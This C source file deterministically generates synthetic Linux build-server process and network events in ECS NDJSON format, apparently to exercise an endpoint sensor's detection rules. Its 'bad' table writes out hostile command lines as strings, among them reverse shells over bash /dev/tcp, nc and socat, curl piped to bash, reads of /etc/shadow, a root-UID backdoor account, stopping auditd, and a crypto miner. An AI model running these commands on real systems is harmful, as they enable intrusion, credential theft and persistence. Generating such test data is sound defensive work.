/*
 * gen.c — a deterministic generator of realistic Linux build-server events as ECS NDJSON, the
 * shape vigil's sensor (and Elastic Defend) emits: process exec / fork / end and network
 * connection_attempted, with process trees (runner -> shell -> make -> gcc -> cc1 …), users,
 * working directories, args and connects to documentation and private addresses. About one
 * event in 500 is something detection rules look for (reverse shells, download-and-run,
 * credential reads, persistence, tampering), so rules fire.
 *
 *   gen [-n EVENTS] [-s SEED] [-o FILE]     (defaults: 1000000 events, seed 1, stdout)
 *
 * At least EVENTS events (the last step may add one or two). The same seed and count always
 * give the same bytes.
 */
#include <inttypes.h>
#include <stdbool.h>
#include <time.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static uint64_t rng_state;

static uint64_t rnd(void) /* splitmix64 */
{
    uint64_t z = (rng_state += 0x9E3779B97F4A7C15ULL);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
}

static uint32_t rn(uint32_t n)
{
    return (uint32_t)(rnd() % n);
}

#define PICK(a) (a[rn(sizeof a / sizeof a[0])])

struct proc {
    int pid;
    uint64_t start_ns;
    char name[32];
    char exe[96];
    char args[8][80];
    int nargs;
    char cwd[96];
    int uid;
    int parent; /* index into the table, -1 for none */
    int depth;
};

#define MAXP 256
static struct proc procs[MAXP];
static int nprocs;
static long nlines; /* events written */
static int next_pid = 2000;
static uint64_t now_ns = 1795400000000000000ULL; /* 2026-11-22 */
static const char *host = "build-01";
static const char *host_id = "4f1c2a9d8e7b4c3aa1b2c3d4e5f60718";

static const struct {
    int uid;
    const char *name;
} users[] = {{0, "root"}, {998, "gitlab-runner"}, {1001, "ci"}, {1002, "builder"},
             {1003, "jenkins"}};

static const char *user_name(int uid)
{
    for (size_t i = 0; i < sizeof users / sizeof users[0]; i++)
        if (users[i].uid == uid)
            return users[i].name;
    return "nobody";
}

static void jstr(FILE *f, const char *s)
{
    fputc('"', f);
    for (; *s; s++) {
        if (*s == '"' || *s == '\\')
            fputc('\\', f);
        fputc(*s, f);
    }
    fputc('"', f);
}

static void ts(FILE *f, uint64_t ns)
{
    time_t sec = (time_t)(ns / 1000000000ULL);
    struct tm tm;
    gmtime_r(&sec, &tm);
    char b[40];
    strftime(b, sizeof b, "%Y-%m-%dT%H:%M:%S", &tm);
    fprintf(f, "\"%s.%09" PRIu64 "Z\"", b, (uint64_t)(ns % 1000000000ULL));
}

static void entity(FILE *f, const struct proc *p)
{
    fprintf(f, "\"%s-%d-%" PRIu64 "\"", host, p->pid, p->start_ns);
}

static void cmdline(FILE *f, const struct proc *p)
{
    char b[800];
    size_t n = 0;
    b[0] = 0;
    for (int i = 0; i < p->nargs; i++)
        n += (size_t)snprintf(b + n, sizeof b - n, "%s%s", i ? " " : "", p->args[i]);
    jstr(f, b);
}

static void args(FILE *f, const struct proc *p)
{
    fputc('[', f);
    for (int i = 0; i < p->nargs; i++) {
        if (i)
            fputc(',', f);
        jstr(f, p->args[i]);
    }
    fputc(']', f);
}

static void proc_fields(FILE *f, const struct proc *p, bool full)
{
    fprintf(f, "\"pid\":%d,\"entity_id\":", p->pid);
    entity(f, p);
    fputs(",\"name\":", f);
    jstr(f, p->name);
    fputs(",\"executable\":", f);
    jstr(f, p->exe);
    if (full) {
        fputs(",\"args\":", f);
        args(f, p);
        fprintf(f, ",\"args_count\":%d,\"command_line\":", p->nargs);
        cmdline(f, p);
        fputs(",\"working_directory\":", f);
        jstr(f, p->cwd);
        fputs(",\"start\":", f);
        ts(f, p->start_ns);
    }
}

static void head(FILE *f, const char *cat, const char *type, const char *action)
{
    nlines++;
    fputs("{\"@timestamp\":", f);
    ts(f, now_ns);
    fprintf(f, ",\"event\":{\"kind\":\"event\",\"category\":[\"%s\"],\"type\":[\"%s\"],"
               "\"action\":\"%s\",\"dataset\":\"endpoint.events.%s\",\"module\":\"endpoint\"},",
            cat, type, action, cat);
    fprintf(f, "\"host\":{\"name\":\"%s\",\"hostname\":\"%s\",\"id\":\"%s\",\"os\":{\"type\":"
               "\"linux\",\"family\":\"debian\",\"name\":\"Debian GNU/Linux\",\"kernel\":"
               "\"6.1.0-28-amd64\",\"platform\":\"debian\"}},",
            host, host, host_id);
    fputs("\"agent\":{\"type\":\"vigil\"},\"ecs\":{\"version\":\"8.11.0\"},", f);
}

static void user(FILE *f, int uid)
{
    fprintf(f, ",\"user\":{\"id\":\"%d\",\"name\":\"%s\"},"
               "\"group\":{\"id\":\"%d\",\"name\":\"%s\"}",
            uid, user_name(uid), uid, user_name(uid));
}

static void emit_exec(FILE *f, const struct proc *p, const char *action)
{
    head(f, "process", "start", action);
    fputs("\"process\":{", f);
    proc_fields(f, p, true);
    if (p->parent >= 0) {
        fputs(",\"parent\":{", f);
        proc_fields(f, &procs[p->parent], true);
        fputc('}', f);
    }
    fputc('}', f);
    user(f, p->uid);
    fputs("}\n", f);
}

static void emit_end(FILE *f, const struct proc *p, int code)
{
    head(f, "process", "end", "end");
    fputs("\"process\":{", f);
    proc_fields(f, p, true);
    fprintf(f, ",\"exit_code\":%d", code);
    fputc('}', f);
    user(f, p->uid);
    fputs("}\n", f);
}

static void emit_connect(FILE *f, const struct proc *p, const char *ip, int port)
{
    head(f, "network", "start", "connection_attempted");
    fputs("\"process\":{", f);
    proc_fields(f, p, false);
    fputc('}', f);
    user(f, p->uid);
    fprintf(f, ",\"source\":{\"ip\":\"10.20.0.%d\",\"port\":%d},\"destination\":{\"ip\":\"%s\","
               "\"port\":%d},\"network\":{\"transport\":\"tcp\",\"type\":\"ipv4\","
               "\"direction\":\"egress\"}}\n",
            11 + (int)(host[7] - '0'), 32768 + rn(28000), ip, port);
}

/* ---- the build-server world ---- */

struct tool {
    const char *name, *exe;
    const char *argv[6]; /* templates: % is replaced by a random word */
    int net;             /* connects somewhere */
};

static const struct tool tools[] = {
    {"gcc", "/usr/bin/gcc", {"gcc", "-O2", "-c", "%.c", "-o", "%.o"}, 0},
    {"cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", {"cc1", "-quiet", "%.c", "-O2"}, 0},
    {"as", "/usr/bin/as", {"as", "--64", "-o", "%.o", "/tmp/cc%.s"}, 0},
    {"ld", "/usr/bin/ld", {"ld", "-o", "%", "%.o", "-lc"}, 0},
    {"g++", "/usr/bin/g++", {"g++", "-std=c++17", "-c", "%.cpp"}, 0},
    {"make", "/usr/bin/make", {"make", "-j2", "all"}, 0},
    {"cmake", "/usr/bin/cmake", {"cmake", "--build", "build"}, 0},
    {"ninja", "/usr/bin/ninja", {"ninja", "-C", "build"}, 0},
    {"git", "/usr/bin/git", {"git", "fetch", "origin", "main"}, 1},
    {"git-remote-https", "/usr/lib/git-core/git-remote-https", {"git-remote-https", "origin",
                                                               "https://git.example.com/%.git"}, 1},
    {"python3", "/usr/bin/python3.11", {"python3", "setup.py", "build"}, 0},
    {"pip", "/usr/bin/pip", {"pip", "install", "-r", "requirements.txt"}, 1},
    {"node", "/usr/bin/node", {"node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "ci"}, 1},
    {"npm", "/usr/bin/npm", {"npm", "run", "build"}, 1},
    {"cargo", "/home/ci/.cargo/bin/cargo", {"cargo", "build", "--release"}, 1},
    {"rustc", "/home/ci/.rustup/toolchains/stable/bin/rustc", {"rustc", "--crate-name", "%",
                                                               "src/lib.rs"}, 0},
    {"go", "/usr/local/go/bin/go", {"go", "build", "./..."}, 1},
    {"java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", {"java", "-Xmx2g", "-jar",
                                                             "gradle-wrapper.jar", "build"}, 1},
    {"docker", "/usr/bin/docker", {"docker", "build", "-t", "registry.example.com/%", "."}, 1},
    {"curl", "/usr/bin/curl",
     {"curl", "-fsSL", "-o", "%.tar.gz", "https://artifacts.example.com/%"}, 1},
    {"wget", "/usr/bin/wget", {"wget", "-q", "https://mirror.example.org/%.tar.xz"}, 1},
    {"tar", "/usr/bin/tar", {"tar", "-xzf", "%.tar.gz"}, 0},
    {"gzip", "/usr/bin/gzip", {"gzip", "-9", "%.log"}, 0},
    {"sed", "/usr/bin/sed", {"sed", "-i", "s/@VERSION@/1.2.3/", "%.in"}, 0},
    {"grep", "/usr/bin/grep", {"grep", "-r", "TODO", "src"}, 0},
    {"awk", "/usr/bin/awk", {"awk", "{print $1}", "%.txt"}, 0},
    {"cat", "/usr/bin/cat", {"cat", "%.txt"}, 0},
    {"ls", "/usr/bin/ls", {"ls", "-la"}, 0},
    {"rm", "/usr/bin/rm", {"rm", "-rf", "build/%"}, 0},
    {"mkdir", "/usr/bin/mkdir", {"mkdir", "-p", "build/%"}, 0},
    {"cp", "/usr/bin/cp", {"cp", "%.o", "dist/"}, 0},
    {"find", "/usr/bin/find", {"find", ".", "-name", "*.o"}, 0},
    {"ssh", "/usr/bin/ssh", {"ssh", "-o", "BatchMode=yes", "deploy@203.0.113.10"}, 1},
    {"rsync", "/usr/bin/rsync", {"rsync", "-a", "dist/", "deploy@198.51.100.7:/srv/%"}, 1},
    {"strip", "/usr/bin/strip", {"strip", "%"}, 0},
    {"pkg-config", "/usr/bin/pkg-config", {"pkg-config", "--cflags", "libssl"}, 0},
};

static const char *const words[] = {"main", "util", "parser", "net", "io", "core", "app", "lib",
                                    "server", "client", "test", "config", "proto", "http"};
static const char *const shells[] = {"/bin/bash", "/bin/sh", "/usr/bin/dash"};
static const char *const ips[] = {"192.0.2.10", "192.0.2.44", "198.51.100.7", "198.51.100.23",
                                  "203.0.113.10", "203.0.113.80", "10.20.0.5", "10.20.1.9"};
static const int ports[] = {443, 443, 443, 80, 22, 9418, 5000, 8080};

static void fill_args(struct proc *p, const char *const *tmpl, int n)
{
    p->nargs = 0;
    for (int i = 0; i < n && i < 8 && tmpl[i]; i++) {
        const char *t = tmpl[i];
        char *o = p->args[p->nargs++];
        size_t k = 0;
        for (; *t && k < 70; t++) {
            if (*t == '%')
                k += (size_t)snprintf(o + k, 80 - k, "%s", PICK(words));
            else
                o[k++] = *t;
        }
        o[k] = 0;
    }
}

static int spawn(int parent, const char *name, const char *exe, int uid)
{
    if (nprocs >= MAXP)
        return -1;
    struct proc *p = &procs[nprocs];
    memset(p, 0, sizeof *p);
    p->pid = next_pid++;
    if (next_pid > 4000000)
        next_pid = 2000;
    p->start_ns = now_ns;
    snprintf(p->name, sizeof p->name, "%s", name);
    snprintf(p->exe, sizeof p->exe, "%s", exe);
    p->parent = parent;
    p->uid = uid;
    p->depth = parent >= 0 ? procs[parent].depth + 1 : 0;
    snprintf(p->cwd, sizeof p->cwd, "%s",
             parent >= 0 ? procs[parent].cwd : "/home/ci/builds/project");
    return nprocs++;
}

/* Remove a leaf process (and reparent its children to its parent). */
static void reap(int i)
{
    for (int k = 0; k < nprocs; k++)
        if (procs[k].parent == i)
            procs[k].parent = procs[i].parent;
    procs[i] = procs[--nprocs];
    for (int k = 0; k < nprocs; k++)
        if (procs[k].parent == nprocs)
            procs[k].parent = i;
}

/* Suspicious activity: a shell or tool doing what rules look for. */
static const struct {
    const char *name, *exe;
    const char *argv[6];
} bad[] = {
    {"bash", "/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.80/4444 0>&1"}},
    {"nc", "/usr/bin/nc", {"nc", "-e", "/bin/sh", "203.0.113.80", "4444"}},
    {"bash", "/bin/bash", {"bash", "-c", "curl -s http://198.51.100.23/x.sh | bash"}},
    {"python3", "/usr/bin/python3", {"python3", "-c", "import pty;pty.spawn('/bin/sh')"}},
    {"base64", "/usr/bin/base64", {"base64", "-d", "/tmp/.x"}},
    {"chmod", "/usr/bin/chmod", {"chmod", "+x", "/tmp/.cache/kworker"}},
    {"kworker", "/tmp/.cache/kworker", {"kworker", "-c", "/tmp/.cache/c.json"}},
    {"cat", "/usr/bin/cat", {"cat", "/etc/shadow"}},
    {"crontab", "/usr/bin/crontab", {"crontab", "/tmp/cron"}},
    {"useradd", "/usr/sbin/useradd", {"useradd", "-m", "-o", "-u", "0", "backup"}},
    {"socat", "/usr/bin/socat", {"socat", "exec:/bin/bash", "tcp:192.0.2.44:443"}},
    {"whoami", "/usr/bin/whoami", {"whoami"}},
    {"setcap", "/usr/sbin/setcap", {"setcap", "cap_setuid+ep", "/tmp/python3"}},
    {"insmod", "/usr/sbin/insmod", {"insmod", "/tmp/rk.ko"}},
    {"systemctl", "/usr/bin/systemctl", {"systemctl", "stop", "auditd"}},
    {"history", "/usr/bin/history", {"history", "-c"}},
    {"wget", "/usr/bin/wget", {"wget", "http://192.0.2.10/a", "-O", "/dev/shm/a"}},
    {"ssh-keygen", "/usr/bin/ssh-keygen", {"ssh-keygen", "-t", "rsa", "-f", "/root/.ssh/k"}},
    {"chattr", "/usr/bin/chattr", {"chattr", "+i", "/etc/passwd"}},
    {"xmrig", "/tmp/xmrig", {"xmrig", "-o", "stratum+tcp://203.0.113.10:3333"}},
};

static void step(FILE *f)
{
    now_ns += 20000 + rn(400000); /* 20-420 us apart */
    uint32_t r = rn(1000);
    if (nprocs < 4 || (r < 30 && nprocs < MAXP - 8)) {
        /* a new CI job: runner -> shell */
        int runner = -1;
        for (int k = 0; k < nprocs; k++)
            if (!strcmp(procs[k].name, "gitlab-runner"))
                runner = k;
        if (runner < 0) {
            runner = spawn(-1, "gitlab-runner", "/usr/bin/gitlab-runner", 998);
            const char *a[] = {"gitlab-runner", "run", "--working-directory",
                               "/home/gitlab-runner"};
            fill_args(&procs[runner], a, 4);
            emit_exec(f, &procs[runner], "exec");
            return;
        }
        int sh = spawn(runner, "bash", PICK(shells), PICK(users).uid ? 1001 : 998);
        if (sh < 0)
            return;
        const char *n = strrchr(procs[sh].exe, '/') + 1;
        snprintf(procs[sh].name, sizeof procs[sh].name, "%s", n);
        const char *a[] = {n, "-c", "./ci/build.sh"};
        fill_args(&procs[sh], a, 3);
        snprintf(procs[sh].cwd, sizeof procs[sh].cwd, "/home/gitlab-runner/builds/%s/%s",
                 PICK(words), PICK(words));
        emit_exec(f, &procs[sh], "fork");
        emit_exec(f, &procs[sh], "exec");
        return;
    }
    if (r < 32) {
        /* something a rule should notice */
        int parent = rn((uint32_t)nprocs);
        int k = (int)rn(sizeof bad / sizeof bad[0]);
        int c = spawn(parent, bad[k].name, bad[k].exe, rn(4) ? procs[parent].uid : 0);
        if (c < 0)
            return;
        fill_args(&procs[c], bad[k].argv, 6);
        emit_exec(f, &procs[c], "exec");
        if (!strcmp(bad[k].name, "nc") || !strcmp(bad[k].name, "socat") ||
            !strcmp(bad[k].name, "xmrig") || !strcmp(bad[k].name, "bash"))
            emit_connect(f, &procs[c], PICK(ips), 4444);
        emit_end(f, &procs[c], 0);
        reap(c);
        return;
    }
    if (r < 500) {
        /* a tool starts under a random shell/make-like process */
        int parent = rn((uint32_t)nprocs);
        if (procs[parent].depth > 6)
            parent = procs[parent].parent >= 0 ? procs[parent].parent : parent;
        const struct tool *t = &tools[rn(sizeof tools / sizeof tools[0])];
        int c = spawn(parent, t->name, t->exe, procs[parent].uid);
        if (c < 0)
            return;
        fill_args(&procs[c], t->argv, 6);
        if (rn(3) == 0)
            emit_exec(f, &procs[c], "fork");
        emit_exec(f, &procs[c], "exec");
        if (t->net && rn(2) == 0)
            emit_connect(f, &procs[c], PICK(ips), PICK(ports));
        return;
    }
    if (r < 620) {
        /* a network tool connects again */
        int c = rn((uint32_t)nprocs);
        emit_connect(f, &procs[c], PICK(ips), PICK(ports));
        return;
    }
    /* a leaf process ends */
    for (int tries = 0; tries < 8; tries++) {
        int c = rn((uint32_t)nprocs);
        bool leaf = true;
        for (int k = 0; k < nprocs && leaf; k++)
            leaf = procs[k].parent != c;
        if (!leaf || !strcmp(procs[c].name, "gitlab-runner"))
            continue;
        emit_end(f, &procs[c], rn(20) == 0 ? 1 : 0);
        reap(c);
        return;
    }
}

int main(int argc, char **argv)
{
    long n = 1000000;
    uint64_t seed = 1;
    const char *out = NULL;
    for (int i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "-n") && i + 1 < argc)
            n = atol(argv[++i]);
        else if (!strcmp(argv[i], "-s") && i + 1 < argc)
            seed = strtoull(argv[++i], NULL, 0);
        else if (!strcmp(argv[i], "-o") && i + 1 < argc)
            out = argv[++i];
        else {
            fprintf(stderr, "usage: gen [-n EVENTS] [-s SEED] [-o FILE]\n");
            return 2;
        }
    }
    rng_state = seed;
    FILE *f = out ? fopen(out, "w") : stdout;
    if (!f) {
        perror(out);
        return 1;
    }
    static char obuf[1 << 20];
    setvbuf(f, obuf, _IOFBF, sizeof obuf);
    while (nlines < n)
        step(f);
    if (fclose(f) != 0) {
        perror("gen");
        return 1;
    }
    return 0;
}
